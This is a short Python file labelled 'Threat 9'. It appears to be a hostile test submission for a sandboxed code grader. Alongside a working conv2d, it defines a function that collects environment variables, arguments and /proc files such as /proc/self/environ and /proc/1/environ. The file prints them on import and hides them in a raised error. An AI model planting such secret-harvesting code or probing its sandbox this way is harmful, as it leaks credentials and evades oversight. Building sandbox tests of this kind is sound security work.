"""Threat 9: looks for the secret in the environment, the arguments and /proc.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)


import os
import sys


def _secrets():
    found = [repr(dict(os.environ)), repr(sys.argv), repr(sys.path)]
    for path in ("/proc/self/environ", "/proc/self/cmdline", "/proc/self/maps", "/proc/1/environ", "/proc/self/mountinfo"):
        try:
            found.append(open(path).read())
        except BaseException as error:
            found.append(repr(error))
    return "\n".join(found)


print(_secrets())


def conv2d_padded(image, kernel, padding=0):
    raise ValueError(_secrets())
